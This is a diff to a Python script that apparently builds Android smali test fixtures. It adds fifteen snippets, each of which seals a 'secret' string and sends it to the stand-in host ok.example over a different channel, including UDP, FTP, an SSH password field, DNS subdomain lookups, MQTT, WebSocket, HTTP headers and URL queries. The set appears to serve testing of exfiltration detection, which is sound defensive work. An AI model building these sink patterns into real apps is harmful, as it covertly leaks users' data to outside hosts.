@@ -434,7 +434,249 @@ VALUES = {
     move-result-object v0
 """,
 }
+# Ways out of an app: each seals a text and hands it to ok.example.
+SINKS = {
+    'datagram': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    const-string v2, "ok.example"
+    invoke-static {v2}, Ljava/net/InetAddress;->getByName(Ljava/lang/String;)Ljava/net/InetAddress;
+    move-result-object v2
+    const/16 v3, 0x1f90
+    array-length v4, v1
+    new-instance v5, Ljava/net/DatagramPacket;
+    invoke-direct {v5, v1, v4, v2, v3}, Ljava/net/DatagramPacket;-><init>([BILjava/net/InetAddress;I)V
+    new-instance v6, Ljava/net/DatagramSocket;
+    invoke-direct {v6}, Ljava/net/DatagramSocket;-><init>()V
+    invoke-virtual {v6, v5}, Ljava/net/DatagramSocket;->send(Ljava/net/DatagramPacket;)V
+""",
+    'datagramchannel': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    new-instance v4, Ljava/net/InetSocketAddress;
+    const-string v2, "ok.example"
+    const/16 v3, 0x1f90
+    invoke-direct {v4, v2, v3}, Ljava/net/InetSocketAddress;-><init>(Ljava/lang/String;I)V
+    invoke-static {}, Ljava/nio/channels/DatagramChannel;->open()Ljava/nio/channels/DatagramChannel;
+    move-result-object v5
+    invoke-static {v1}, Ljava/nio/ByteBuffer;->wrap([B)Ljava/nio/ByteBuffer;
+    move-result-object v6
+    invoke-virtual {v5, v6, v4}, Ljava/nio/channels/DatagramChannel;->send(Ljava/nio/ByteBuffer;Ljava/net/SocketAddress;)I
+""",
+    'socketchannel': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    new-instance v4, Ljava/net/InetSocketAddress;
+    const-string v2, "ok.example"
+    const/16 v3, 0x1f90
+    invoke-direct {v4, v2, v3}, Ljava/net/InetSocketAddress;-><init>(Ljava/lang/String;I)V
+    invoke-static {v4}, Ljava/nio/channels/SocketChannel;->open(Ljava/net/SocketAddress;)Ljava/nio/channels/SocketChannel;
+    move-result-object v5
+    invoke-static {v1}, Ljava/nio/ByteBuffer;->wrap([B)Ljava/nio/ByteBuffer;
+    move-result-object v6
+    invoke-virtual {v5, v6}, Ljava/nio/channels/SocketChannel;->write(Ljava/nio/ByteBuffer;)I
+""",
+    'asyncchannel': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    new-instance v4, Ljava/net/InetSocketAddress;
+    const-string v2, "ok.example"
+    const/16 v3, 0x1f90
+    invoke-direct {v4, v2, v3}, Ljava/net/InetSocketAddress;-><init>(Ljava/lang/String;I)V
+    invoke-static {}, Ljava/nio/channels/AsynchronousSocketChannel;->open()Ljava/nio/channels/AsynchronousSocketChannel;
+    move-result-object v5
+    invoke-virtual {v5, v4}, Ljava/nio/channels/AsynchronousSocketChannel;->connect(Ljava/net/SocketAddress;)Ljava/util/concurrent/Future;
+    move-result-object v7
+    invoke-interface {v7}, Ljava/util/concurrent/Future;->get()Ljava/lang/Object;
+    invoke-static {v1}, Ljava/nio/ByteBuffer;->wrap([B)Ljava/nio/ByteBuffer;
+    move-result-object v6
+    invoke-virtual {v5, v6}, Ljava/nio/channels/AsynchronousSocketChannel;->write(Ljava/nio/ByteBuffer;)Ljava/util/concurrent/Future;
+""",
+    'ftp': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    new-instance v4, Lorg/apache/commons/net/ftp/FTPClient;
+    invoke-direct {v4}, Lorg/apache/commons/net/ftp/FTPClient;-><init>()V
+    const-string v2, "ok.example"
+    const/16 v3, 0x1f90
+    invoke-virtual {v4, v2, v3}, Lorg/apache/commons/net/ftp/FTPClient;->connect(Ljava/lang/String;I)V
+    new-instance v5, Ljava/io/ByteArrayInputStream;
+    invoke-direct {v5, v1}, Ljava/io/ByteArrayInputStream;-><init>([B)V
+    const-string v2, "x"
+    invoke-virtual {v4, v2, v5}, Lorg/apache/commons/net/ftp/FTPClient;->storeFile(Ljava/lang/String;Ljava/io/InputStream;)Z
+""",
+    'jsch': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    new-instance v4, Lcom/jcraft/jsch/JSch;
+    invoke-direct {v4}, Lcom/jcraft/jsch/JSch;-><init>()V
+    const-string v2, "root"
+    const-string v5, "ok.example"
+    const/16 v3, 0x1f90
+    invoke-virtual {v4, v2, v5, v3}, Lcom/jcraft/jsch/JSch;->getSession(Ljava/lang/String;Ljava/lang/String;I)Lcom/jcraft/jsch/Session;
+    move-result-object v6
+    invoke-virtual {v6, v1}, Lcom/jcraft/jsch/Session;->setPassword([B)V
+""",
+    'dnstunnel': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    new-instance v4, Ljava/math/BigInteger;
+    const/4 v3, 0x1
+    invoke-direct {v4, v3, v1}, Ljava/math/BigInteger;-><init>(I[B)V
+    const/16 v3, 0x10
+    invoke-virtual {v4, v3}, Ljava/math/BigInteger;->toString(I)Ljava/lang/String;
+    move-result-object v1
+    new-instance v5, Ljava/lang/StringBuilder;
+    invoke-direct {v5}, Ljava/lang/StringBuilder;-><init>()V
+    invoke-virtual {v5, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
+    const-string v2, ".ok.example"
+    invoke-virtual {v5, v2}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
+    invoke-virtual {v5}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
+    move-result-object v2
+    invoke-static {v2}, Ljava/net/InetAddress;->getByName(Ljava/lang/String;)Ljava/net/InetAddress;
+""",
+    'paho': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    new-instance v4, Lorg/eclipse/paho/client/mqttv3/MqttClient;
+    const-string v2, "tcp://ok.example:8080"
+    const-string v3, "id"
+    invoke-direct {v4, v2, v3}, Lorg/eclipse/paho/client/mqttv3/MqttClient;-><init>(Ljava/lang/String;Ljava/lang/String;)V
+    invoke-virtual {v4}, Lorg/eclipse/paho/client/mqttv3/MqttClient;->connect()V
+    new-instance v5, Lorg/eclipse/paho/client/mqttv3/MqttMessage;
+    invoke-direct {v5, v1}, Lorg/eclipse/paho/client/mqttv3/MqttMessage;-><init>([B)V
+    const-string v2, "t"
+    invoke-virtual {v4, v2, v5}, Lorg/eclipse/paho/client/mqttv3/MqttClient;->publish(Ljava/lang/String;Lorg/eclipse/paho/client/mqttv3/MqttMessage;)V
+""",
+    'printwriter': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    const/4 v3, 0x2
+    invoke-static {v1, v3}, Landroid/util/Base64;->encodeToString([BI)Ljava/lang/String;
+    move-result-object v1
+    new-instance v5, Ljava/net/Socket;
+    const-string v2, "ok.example"
+    const/16 v3, 0x1f90
+    invoke-direct {v5, v2, v3}, Ljava/net/Socket;-><init>(Ljava/lang/String;I)V
+    new-instance v6, Ljava/io/PrintWriter;
+    invoke-virtual {v5}, Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;
+    move-result-object v7
+    const/4 v3, 0x1
+    invoke-direct {v6, v7, v3}, Ljava/io/PrintWriter;-><init>(Ljava/io/OutputStream;Z)V
+    invoke-virtual {v6, v1}, Ljava/io/PrintWriter;->println(Ljava/lang/String;)V
+""",
+    'objectstream': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    new-instance v5, Ljava/net/Socket;
+    const-string v2, "ok.example"
+    const/16 v3, 0x1f90
+    invoke-direct {v5, v2, v3}, Ljava/net/Socket;-><init>(Ljava/lang/String;I)V
+    invoke-virtual {v5}, Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;
+    move-result-object v7
+    new-instance v6, Ljava/io/ObjectOutputStream;
+    invoke-direct {v6, v7}, Ljava/io/ObjectOutputStream;-><init>(Ljava/io/OutputStream;)V
+    invoke-virtual {v6, v1}, Ljava/io/ObjectOutputStream;->writeObject(Ljava/lang/Object;)V
+""",
+    'okws': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    new-instance v5, Lokhttp3/Request$Builder;
+    invoke-direct {v5}, Lokhttp3/Request$Builder;-><init>()V
+    const-string v2, "ws://ok.example:8080/p"
+    invoke-virtual {v5, v2}, Lokhttp3/Request$Builder;->url(Ljava/lang/String;)Lokhttp3/Request$Builder;
+    move-result-object v5
+    invoke-virtual {v5}, Lokhttp3/Request$Builder;->build()Lokhttp3/Request;
+    move-result-object v5
+    new-instance v6, Lokhttp3/OkHttpClient;
+    invoke-direct {v6}, Lokhttp3/OkHttpClient;-><init>()V
+    const/4 v7, 0x0
+    invoke-virtual {v6, v5, v7}, Lokhttp3/OkHttpClient;->newWebSocket(Lokhttp3/Request;Lokhttp3/WebSocketListener;)Lokhttp3/WebSocket;
+    move-result-object v7
+    invoke-static {v1}, Lokio/ByteString;->of([B)Lokio/ByteString;
+    move-result-object v8
+    invoke-interface {v7, v8}, Lokhttp3/WebSocket;->send(Lokio/ByteString;)Z
+""",
+    'sslsocket': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    invoke-static {}, Ljavax/net/ssl/SSLSocketFactory;->getDefault()Ljavax/net/SocketFactory;
+    move-result-object v4
+    const-string v2, "ok.example"
+    const/16 v3, 0x1f90
+    invoke-virtual {v4, v2, v3}, Ljavax/net/SocketFactory;->createSocket(Ljava/lang/String;I)Ljava/net/Socket;
+    move-result-object v5
+    invoke-virtual {v5}, Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;
+    move-result-object v6
+    invoke-virtual {v6, v1}, Ljava/io/OutputStream;->write([B)V
+""",
+    'header': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    const/4 v3, 0x2
+    invoke-static {v1, v3}, Landroid/util/Base64;->encodeToString([BI)Ljava/lang/String;
+    move-result-object v1
+    new-instance v4, Ljava/net/URL;
+    const-string v2, "http://ok.example:8080/p"
+    invoke-direct {v4, v2}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
+    invoke-virtual {v4}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
+    move-result-object v5
+    check-cast v5, Ljava/net/HttpURLConnection;
+    const-string v2, "X-D"
+    invoke-virtual {v5, v2, v1}, Ljava/net/HttpURLConnection;->setRequestProperty(Ljava/lang/String;Ljava/lang/String;)V
+    invoke-virtual {v5}, Ljava/net/HttpURLConnection;->getResponseCode()I
+""",
+    'urlquery': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    const/4 v3, 0x2
+    invoke-static {v1, v3}, Landroid/util/Base64;->encodeToString([BI)Ljava/lang/String;
+    move-result-object v1
+    const-string v2, "UTF-8"
+    invoke-static {v1, v2}, Ljava/net/URLEncoder;->encode(Ljava/lang/String;Ljava/lang/String;)Ljava/lang/String;
+    move-result-object v1
+    new-instance v5, Ljava/lang/StringBuilder;
+    const-string v2, "http://ok.example:8080/p?d="
+    invoke-direct {v5, v2}, Ljava/lang/StringBuilder;-><init>(Ljava/lang/String;)V
+    invoke-virtual {v5, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
+    invoke-virtual {v5}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
+    move-result-object v2
+    new-instance v4, Ljava/net/URL;
+    invoke-direct {v4, v2}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
+    invoke-virtual {v4}, Ljava/net/URL;->openStream()Ljava/io/InputStream;
+""",
+}
 
+shapes |= {"sinks/" + name: [activity(body, 12)] for name, body in SINKS.items()}
+(here / "sinks").mkdir(exist_ok=True)
 shapes |= {"values/" + name: [activity(body + SEND, 12)] for name, body in VALUES.items()}
 (here / "values").mkdir(exist_ok=True)
 
